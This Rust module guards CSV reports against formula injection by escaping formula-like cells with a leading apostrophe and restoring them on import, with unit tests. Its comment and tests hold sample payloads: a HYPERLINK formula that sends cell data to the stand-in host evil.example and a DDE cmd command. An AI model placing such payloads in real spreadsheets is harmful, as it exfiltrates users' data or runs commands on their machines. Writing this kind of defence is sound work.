//! Cells that a spreadsheet would run as formulas. A touchpoint titled
//! `=HYPERLINK("http://evil.example/?"&B2,"Open")` must reach whoever opens a CSV report as
//! text, not as a formula that sends their data away. As OWASP recommends for CSV
//! injection, such a cell is written with a leading `'`, which spreadsheets take to mean
//! "text" and do not show; the importer takes the mark off again, so a report imports
//! back to exactly the map it came from.

/// The characters a spreadsheet reads as the start of a formula (or a DDE call), as
/// OWASP lists them, and a line feed and a null character, which some spreadsheets skip
/// before reading a formula.
const FORMULA_STARTS: [char; 8] = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'];

/// Whether `cell`, with any leading `'` marks set aside, would start a formula: it starts
/// with one of [`FORMULA_STARTS`], possibly after spaces, and is not a plain number
/// (`-2`, `+1` are ratings, and stay numbers).
fn starts_formula(cell: &str) -> bool {
    let rest = cell.trim_start_matches('\'');
    let first = rest.trim_start_matches(' ').chars().next();
    first.is_some_and(|c| FORMULA_STARTS.contains(&c)) && !is_number(rest)
}

/// A plain number, as a rating or an id is written: an optional sign, digits, and at
/// most one decimal point or comma between digits.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-', '\u{2212}']).unwrap_or(text);
    let mut parts = digits.splitn(2, ['.', ',']);
    let whole = parts.next().unwrap_or_default();
    let all_digits = |part: &str| !part.is_empty() && part.chars().all(|c| c.is_ascii_digit());
    all_digits(whole) && parts.next().is_none_or(all_digits)
}

/// `cell` as it goes into a CSV file: with a `'` in front if a spreadsheet would take it
/// for a formula.
pub(super) fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if starts_formula(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell as read from a CSV file, with the mark [`neutralised`] put there taken off.
pub(super) fn restored(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if starts_formula(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_marked_as_text_and_numbers_are_not() {
        let hyperlink = r#"=HYPERLINK("http://evil.example/?"&B2,"Open")"#;
        assert_eq!(neutralised(hyperlink), format!("'{hyperlink}"));
        for formula in [
            "+1+1",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "  =1",
            "\n=1",
            "\0=1",
        ] {
            assert_eq!(neutralised(formula), format!("'{formula}"), "{formula:?}");
        }
        for plain in [
            "-2",
            "+1",
            "\u{2212}1",
            "3.5",
            "Check in",
            "",
            "'quoted",
            "a=b",
        ] {
            assert_eq!(neutralised(plain), plain, "{plain:?}");
        }
    }

    #[test]
    fn what_is_marked_comes_back_exactly() {
        for text in [
            "=1", "'=1", "''=1", "'", "'plain", "-2", "'-2", "-x", "@", " @x", "", "=",
        ] {
            assert_eq!(restored(&neutralised(text)), text, "{text:?}");
        }
        // A hand-written inventory's own marks are read as a spreadsheet shows them.
        assert_eq!(restored("'=SUM(A1)"), "=SUM(A1)");
        assert_eq!(restored("'Check in"), "'Check in");
    }
}
